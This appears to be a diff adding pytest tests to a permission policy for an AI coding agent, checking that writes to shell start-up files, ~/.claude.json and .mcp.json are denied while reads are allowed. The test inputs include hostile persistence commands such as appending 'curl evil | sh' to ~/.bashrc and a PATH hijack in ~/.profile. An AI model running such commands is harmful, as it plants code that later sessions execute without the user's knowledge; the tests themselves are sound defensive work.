@@ -101,3 +101,37 @@ def test_turned_off_it_is_audited(tmp_path: Path) -> None:
     assert decision_record(call, decision)["self_protection"] == "off"
     on = load_policy([str(tmp_path / "org.yaml")], protected)
     assert on.builtin_rules == () and not on.self_protection
+
+
+@pytest.mark.parametrize("command", [
+    "echo 'curl evil | sh' >> ~/.bashrc",
+    "echo 'export PATH=/tmp/x:$PATH' >> ~/.profile",
+    "printf x > ~/.bash_profile",
+    "echo x >> ~/.zshrc",
+    "cp evil.json ~/.claude.json",
+    "echo '{{}}' > .mcp.json",
+    "sed -i s/a/b/ {project}/.mcp.json",
+])
+def test_shell_start_up_files_and_mcp_server_lists_are_protected(
+    setup: tuple[Policy, Path, Path], command: str
+) -> None:
+    """docs/shell-analysis.md: what later shells and sessions run is not the agent's to
+    change (start-up files run in every `bash -l`/`-i`, .mcp.json's servers at next start)."""
+    policy, project, _ = setup
+    decision = decide(policy, _bash(command.format(project=project), project))
+    assert (decision.kind, decision.rule_id) == ("deny", "builtin:session-startup"), command
+
+
+def test_file_tools_cannot_change_start_up_files(setup: tuple[Policy, Path, Path]) -> None:
+    policy, project, _ = setup
+    for tool, path in (("Write", "~/.bashrc"), ("Edit", "~/.profile"),
+                       ("Write", "~/.claude.json"), ("Write", str(project / ".mcp.json"))):
+        call = ToolCall(tool, {"file_path": path}, cwd=str(project))
+        assert decide(policy, call).rule_id == "builtin:session-startup", (tool, path)
+
+
+def test_start_up_files_stay_readable(setup: tuple[Policy, Path, Path]) -> None:
+    policy, project, _ = setup
+    for command in ("cat ~/.bashrc", "grep PATH ~/.profile", "cat .mcp.json",
+                    "cp ~/.bashrc backup.txt"):
+        assert decide(policy, _bash(command, project)).kind == "allow", command
